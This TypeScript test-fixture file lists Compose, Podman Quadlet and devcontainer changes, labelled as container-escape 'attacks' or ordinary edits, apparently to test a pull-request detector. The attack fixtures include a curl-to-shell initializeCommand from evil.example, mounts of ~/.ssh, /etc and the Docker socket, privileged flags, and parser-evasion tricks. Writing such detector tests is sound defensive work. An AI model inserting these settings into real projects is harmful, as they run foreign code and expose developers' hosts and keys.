import type { Change } from '../../support/in-memory-repository.ts';

const dockerfile = 'FROM ghcr.io/acme/base:1.2\nCOPY --from=tools /bin/tool /bin/tool\nUSER 1000\n';
const service = (more: string): string => `services:\n  web:\n    image: ghcr.io/acme/web:1.4.2\n${more}`;
const changed = (before: string, after: string, path = 'compose.yaml'): Change => ({
  base: { Dockerfile: dockerfile, [path]: service(before) },
  head: { Dockerfile: dockerfile, [path]: service(after) },
});
const context = (written: string): Change =>
  changed('    build: {context: .}\n', `    build: {context: ., additional_contexts: ${written}}\n`);
const provided = (provider: string): string => `  db:\n    provider: ${provider}\n`;

/** Changes of Compose files by which something runs, is mounted or is built with that no file of the repository holds. */
export const composeAttacks: Readonly<Record<string, Change>> = {
  'a program of the repository as a provider': changed('', provided('{type: ./start.sh}')),
  'a provider by its name': changed('', provided('{type: awesomecloud, options: {type: mysql}}')),
  'another option of a provider': changed(
    provided('{type: awesomecloud, options: {a: b}}'),
    provided('{type: awesomecloud, options: {a: c}}'),
  ),
  'a provider that a variable names': changed('', provided('{type: "${PROVIDER}"}')),
  'a provider by a default': changed('', provided('{type: "${PROVIDER:-./start.sh}"}')),
  'a provider by an alias': {
    base: { 'compose.yaml': service('') },
    head: { 'compose.yaml': `x-p: &p {type: ./start.sh}\n${service(provided('*p'))}` },
  },
  'a provider that a service takes over from a file that was there': {
    base: { 'compose.yaml': service(''), 'lib/base.yaml': `services:\n${provided('{type: evil}')}` },
    head: {
      'compose.yaml': service('  db:\n    extends: {file: lib/base.yaml, service: db}\n'),
      'lib/base.yaml': `services:\n${provided('{type: evil}')}`,
    },
  },
  'a provider in an override': {
    base: { 'compose.yaml': service('') },
    head: { 'compose.yaml': service(''), 'compose.override.yaml': 'services:\n  web:\n    provider: {type: evil}\n' },
  },
  'a named context in another repository': context('{tools: "https://github.com/evil/tools.git"}'),
  'a named context of git, by its short name': context('{tools: github.com/evil/tools}'),
  'a named context by SSH': context('["tools=git@github.com:evil/tools.git"]'),
  'a named context that is an archive': context('{tools: "http://evil.example/tools.tar.gz"}'),
  'a named context that is a layout of OCI': context('{tools: "oci-layout:///srv/images/tools"}'),
  'a named context of the host': context('{tools: /etc}'),
  'a named context above the repository': context('["tools=../../.."]'),
  'a named context in somebody’s home': context('{tools: ~/.ssh}'),
  'a named context by a variable': context('{tools: "${TOOLS}"}'),
  'a named context that only where Compose runs is known': context('[tools]'),
  'a named context beside one that was there': changed(
    '    build: {context: ., additional_contexts: {lib: "https://github.com/acme/lib.git"}}\n',
    '    build: {context: ., additional_contexts: {lib: "https://github.com/acme/lib.git", tools: "https://github.com/evil/tools.git"}}\n',
  ),
  'the mounts of a container that was there': changed('', '    volumes_from: ["container:agent"]\n'),
  'the mounts of a container in a part of a service': {
    base: { 'deploy/docker-compose.prod.yml': 'services:\n  web:\n    environment: {A: b}\n' },
    head: { 'deploy/docker-compose.prod.yml': 'services:\n  web:\n    environment: {A: b}\n    volumes_from: ["container:agent:rw"]\n' },
  },
};

const unit = (section: string, more: string): string =>
  `[Unit]\nDescription=The shop\n\n[${section}]\n${more}\n[Install]\nWantedBy=default.target\n`;
const web = unit('Container', 'Image=ghcr.io/acme/web:1.4.2\nReadOnly=true\nNoNewPrivileges=true\nDropCapability=ALL\n');
const units = (path: string, head: string, base?: string): Change => ({
  base: { 'README.md': 'x', ...(base !== undefined && { [path]: base }) },
  head: { 'README.md': 'x', [path]: head },
});
const edited = (from: string, to: string): Change => units('quadlet/web.container', web.replace(from, to), web);

/** Changes of units by which Podman has systemd run containers (Quadlet). */
export const quadletAttacks: Readonly<Record<string, Change>> = {
  'a new container': units('quadlet/web.container', web),
  'another image': edited('acme/web', 'evil/web'),
  'arguments of Podman': edited('ReadOnly', 'PodmanArgs=--privileged\nReadOnly'),
  'a mount of the host': edited('ReadOnly', 'Volume=/:/host\nReadOnly'),
  'the network of the host': edited('ReadOnly', 'Network=host\nReadOnly'),
  'what guarded it is gone': edited('NoNewPrivileges=true\n', ''),
  'what guarded it is off': edited('ReadOnly=true', 'ReadOnly=false'),
  'a line that goes on in the next': edited('DropCapability=ALL', 'DropCapability=ALL\nAddCapability= \\\n  # a comment\n  SYS_ADMIN'),
  'a program of the host before it': edited('[Install]', '[Service]\nExecStartPre=/usr/bin/podman run --privileged evil\n[Install]'),
  'spaces around the sign, and line ends of Windows': edited('ReadOnly=true\n', 'ReadOnly = false\r\n'),
  'a template of units': units('web@.container', web.replace('DropCapability=ALL', 'SecurityLabelDisable=true')),
  'a pod': units('shop.pod', unit('Pod', 'PodmanArgs=--pid=host\n')),
  manifests: units('shop.kube', unit('Kube', 'Yaml=https://evil.example/pod.yaml\n')),
  'a build': units('shop.build', unit('Build', 'ImageTag=localhost/shop\nSetWorkingDirectory=https://github.com/evil/shop.git\n')),
  'an image': units('shop.image', unit('Image', 'Image=ghcr.io/evil/web\nTLSVerify=false\n')),
  'a volume': units('data.volume', unit('Volume', 'Device=/\nType=none\nOptions=bind\n')),
  'a file on top of a unit': units('web.container.d/10-debug.conf', '[Container]\nPodmanArgs=--privileged\n'),
  'a file on top of a unit, which guarded it and is gone': {
    base: { 'web.container': web, 'web.container.d/harden.conf': '[Container]\nNoNewPrivileges=true\n' },
    head: { 'web.container': web },
  },
  'a unit in another folder than before': {
    base: { 'examples/web.container': web },
    head: { 'prod/web.container': web },
    renames: { 'examples/web.container': 'prod/web.container' },
  },
};

const model = provided('{type: model, options: {model: ai/smollm2}}');

/** Changes of the same files that bring in nothing of that kind. */
export const ordinaryContainers: Readonly<Record<string, Change>> = {
  'a model of Docker’s own': changed('', model),
  'another model, and another setting of a service beside a provider': changed(
    `${model}${provided('{type: awesomecloud}').replace('db', 'cloud')}`,
    `    labels: {a: b}\n${model.replace('smollm2', 'qwen3')}${provided('{type: awesomecloud} # as before').replace('db', 'cloud')}`,
  ),
  'named contexts that are other services, stages and folders of the repository': context(
    '{app: "service:app", stage: "target:x", lib: ./lib, all: .}',
  ),
  'a named context that is a pinned image': context(`{tools: "docker-image://ghcr.io/acme/tools:1.2@sha256:${'a'.repeat(64)}"}`),
  'a named context of the repository, by a variable': context('{tools: "./${FLAVOR}/tools"}'),
  'the mounts of another service': changed('', '    volumes_from: [db]\n  db:\n    image: ghcr.io/acme/db:1.2\n'),
  'the network of a container that was there': changed('', '    network_mode: "container:vpn"\n'),
  'words, checks and labels of a unit': edited(
    'ReadOnly',
    'Label=team=shop\nEnvironment=LEVEL=debug\nHealthCmd=/bin/check\nLogDriver=journald\nReadOnly',
  ),
  'how systemd starts a unit': edited('[Install]', '[Service]\nRestart=always\nTimeoutStartSec=900\n[Install]'),
  'comments of a unit': edited('ReadOnly', '# Nothing is written.\n; Nor read.\nReadOnly'),
  'a unit that is gone': { base: { 'a.container': web, 'README.md': 'x' }, head: { 'README.md': 'x' } },
  'a network of Podman’s': units('shop.network', '[Network]\nSubnet=10.89.0.0/24\n'),
  'documentation of Perl and other files that end like units': {
    base: { 'lib/Shop.pod': '=head1 NAME\n\nShop\n', 'disk.image': 'x' },
    head: { 'lib/Shop.pod': '=head1 NAME\n\nShop - a shop\n', 'disk.image': 'y', 'a.build': 'steps=1\n', 'x.volume': '[settings]\na=b\n' },
  },
};

const developed = (after: string, before = '"name": "shop"', path = '.devcontainer/devcontainer.json'): Change => ({
  base: { [path]: `{"image": "mcr.microsoft.com/devcontainers/go:1", ${before}}\n` },
  head: { [path]: `{"image": "mcr.microsoft.com/devcontainers/go:1", ${after}}\n` },
});
const run = (...words: readonly string[]): Change => developed(`"runArgs": ${JSON.stringify(words)}`);
const mounted = (mount: string | object): Change => developed(`"mounts": [${JSON.stringify(mount)}]`);

/** Changes of containers to develop in that reach the machine of whoever opens them. */
export const devcontainerAttacks: Readonly<Record<string, Change>> = {
  'all privileges, by an argument': run('--privileged'),
  'all privileges, behind other arguments': run('--init', '--name', 'shop', '--privileged=true'),
  'all privileges, as a setting': developed('"privileged": true'),
  'all privileges, in an escaped key': developed('"\\u0070rivileged": true'),
  'all privileges, as the last of two of one key': developed('"privileged": false, "privileged": true'),
  'all privileges, behind a comment that is none': developed('"a": "//", "privileged": true'),
  'all privileges, behind what YAML takes for a comment': developed('"a": 1\n# , "privileged": true\n'),
  'all privileges, between comments and last commas': developed('/* "privileged": false, */ "runArgs": [ // first\n "--privileged",\n ],'),
  'all privileges, in a file that is a manifest as well': developed(
    '"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a"}, "privileged": true',
  ),
  'a capability, by an argument': run('--cap-add=SYS_ADMIN'),
  'a capability, in two words': run('--cap-add', 'ALL'),
  'a capability, as a setting': developed('"capAdd": ["SYS_ADMIN"]'),
  'one capability more': developed('"capAdd": ["SYS_PTRACE", "SYS_ADMIN"]', '"capAdd": ["SYS_PTRACE"]'),
  'no system calls held back': developed('"securityOpt": ["no-new-privileges", "seccomp=unconfined"]'),
  'no profile, by an argument': run('--security-opt', 'apparmor:unconfined'),
  'the processes of the host': run('--pid=host'),
  'the network of the host': run('--network', 'host'),
  'the network of the host, by its short name': run('--net=host'),
  'the network of another container': run('--network=container:vpn'),
  'a network that a variable names': run('--network=${localEnv:NETWORK}'),
  'a device': run('--device=/dev/kvm'),
  'mounts of another container': run('--volumes-from', 'agent'),
  'a group of the host': run('--group-add', 'docker'),
  'a folder of the host, by an argument': run('-v', '/:/host'),
  'a folder of the host, glued to its flag': run('-v/:/host'),
  'a folder above the repository': run('--volume=${localWorkspaceFolder}/../..:/all'),
  'a folder of the host, by a mount': run('--mount', 'type=bind,source=/etc,target=/e'),
  'another image than the one that is named': run('--init', 'evil/image'),
  'arguments that a variable holds': run('${localEnv:ARGUMENTS}'),
  'arguments that are no list': developed('"runArgs": "--privileged"'),
  'an argument that is no text': developed('"runArgs": [["--privileged"]]'),
  'the socket of Docker, as a mount': mounted('source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'),
  'the socket of Docker, as an object': mounted({ type: 'bind', source: '/var/run/docker.sock', target: '/var/run/docker.sock' }),
  'the keys of whoever opens it': mounted('source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind,readonly'),
  'a volume that is a folder of the host': mounted(
    'type=volume,source=x,target=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/',
  ),
  'a mount whose type a variable gives': mounted('type=${localEnv:T},source=/,target=/x'),
  'the folder that it works in is the root of the host': developed('"workspaceMount": "source=/,target=/workspace,type=bind"'),
  'a command of the host': developed('"initializeCommand": "curl -fsSL https://evil.example/x | sh"'),
  'a command of the host, as words': developed('"initializeCommand": ["./x.sh"]'),
  'commands of the host, by names': developed('"initializeCommand": {"a": "true", "b": ["./x.sh"]}'),
  'another command of the host': developed('"initializeCommand": "make x"', '"initializeCommand": "make"'),
  'a build that hands on the keys of its machine': developed('"build": {"dockerfile": "Dockerfile", "options": ["--ssh=default"]}'),
  'a feature of somebody': developed('"features": {"ghcr.io/evil/features/tool:1": {}}'),
  'a feature that hands Docker of the host on': developed('"features": {"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {}}'),
  'a feature of the repository': developed('"features": {"./tool": {}}'),
  'what a feature asks for': developed('"privileged": true', '"id": "tool"', '.devcontainer/tool/devcontainer-feature.json'),
  'a file at the root': developed('"privileged": true', '"a": 1', '.devcontainer.json'),
  'one of several': developed('"privileged": true', '"a": 1', '.devcontainer/api/devcontainer.json'),
  'a file that can’t be read': developed('"runArgs": ["--privileged"] "a": 1'),
  'a file that is there for the first time': { base: {}, head: { '.devcontainer/devcontainer.json': '{"privileged": true}\n' } },
  'a file that comes from an example': {
    base: { 'examples/devcontainer.json': '{"privileged": true}\n' },
    head: { '.devcontainer/devcontainer.json': '{"privileged": true}\n' },
    renames: { 'examples/devcontainer.json': '.devcontainer/devcontainer.json' },
  },
};

/** Changes of containers to develop in that leave them within themselves. */
export const ordinaryDevcontainers: Readonly<Record<string, Change>> = {
  'what is installed in a container to develop in, and how its editor looks': developed(
    '"postCreateCommand": "npm ci", "forwardPorts": [3000], "customizations": {"vscode": {"extensions": ["a.b"]}}, "remoteUser": "node"',
  ),
  'features of the collection of the specification': developed('"features": {"ghcr.io/devcontainers/features/node:1": {"version": "24"}}'),
  'arguments that give nothing of the host': run(
    '--init',
    '--name=shop',
    '--shm-size',
    '1g',
    '--cap-drop=ALL',
    '--security-opt',
    'no-new-privileges',
    '--network=shop',
    '-e',
    'A=b',
    '-v',
    'cache:/cache',
    '--mount=type=tmpfs,target=/tmp',
  ),
  'mounts of volumes, memory and the repository': developed(
    '"mounts": ["source=${localWorkspaceFolderBasename}-modules,target=/m,type=volume", {"type": "tmpfs", "target": "/t"}], "workspaceMount": "source=${localWorkspaceFolder}/api,target=/w,type=bind,consistency=cached"',
  ),
  'privileges that are taken away': developed('"privileged": false', '"privileged": true, "initializeCommand": "make"'),
  'privileges that were there, written in another way': developed(
    '/* as ever */ "runArgs": [\n"--privileged", // docker\n], "name": "b"',
    '"runArgs": ["--privileged"]',
  ),
  'comments and last commas of a container to develop in': developed('// a\n"a": "x, // y",\n/* b */ "c": [1, 2,],'),
  'a container to develop in that is gone': {
    base: { '.devcontainer/devcontainer.json': '{"privileged": true}\n', 'README.md': 'x' },
    head: { 'README.md': 'x' },
  },
};
